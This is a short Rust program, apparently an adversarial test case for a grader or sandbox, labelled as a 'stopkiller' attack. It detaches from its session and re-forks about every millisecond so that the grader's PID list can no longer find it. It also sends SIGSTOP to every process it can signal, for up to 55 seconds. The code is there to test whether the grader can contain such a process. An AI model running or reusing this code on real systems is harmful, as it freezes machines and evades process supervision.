//! Attack: as stopkiller, and it goes on to be another process each millisecond, so that no list of pids that
//! the grader makes names it any more when it kills. It lives at most 55 seconds.
use nix::libc;
use std::time::{Duration, Instant};

fn main() {
    unsafe {
        if libc::fork() == 0 {
            libc::setsid();
            for fd in 0..3 {
                libc::close(fd);
            }
            let start = Instant::now();
            while start.elapsed().as_secs() < 55 {
                if start.elapsed().as_millis() > 60 {
                    libc::kill(-1, libc::SIGSTOP);
                }
                if libc::fork() > 0 {
                    libc::_exit(0);
                }
                if start.elapsed().as_secs() > 4 { std::thread::sleep(Duration::from_micros(300)); }
            }
            libc::_exit(0);
        }
    }
}
